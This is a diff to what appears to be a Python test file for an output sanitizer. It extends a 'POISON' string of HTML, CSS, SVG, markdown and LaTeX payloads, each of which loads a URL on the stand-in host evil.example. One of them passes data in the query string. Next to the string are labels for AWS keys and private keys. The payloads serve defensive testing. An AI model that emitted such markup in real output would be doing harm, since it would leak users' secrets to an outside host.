@@ -40,7 +40,12 @@ EVIL = "evil.example"
 LABELS = {"secret/aws-access-key": "AWS access key", "secret/private-key": "Private key"}
 POISON = (
     f"Look: ![chart](https://{EVIL}/pixel.png?d=secret) and [a link](https://{EVIL}/click) "
-    f"<img src='https://{EVIL}/tag.png'><script>fetch('https://{EVIL}/x')</script> ![v](https://{EVIL}/film.mp4)"
+    f"<img src='https://{EVIL}/tag.png'><script>fetch('https://{EVIL}/x')</script> ![v](https://{EVIL}/film.mp4) "
+    f"<style>@import url(https://{EVIL}/css); body {{ background: url(https://{EVIL}/back.png) }}</style>"
+    f"<svg><image href='https://{EVIL}/svg.png'/></svg><meta http-equiv='refresh' content='0;url=https://{EVIL}/meta'>"
+    f"<link rel='prefetch' href='https://{EVIL}/prefetch'><iframe src='https://{EVIL}/frame'></iframe>"
+    f"<video poster='https://{EVIL}/poster.png'></video><object data='https://{EVIL}/object'></object> "
+    f"<https://{EVIL}/plain> and $\\href{{https://{EVIL}/math}}{{x}}$"
 )
 
 
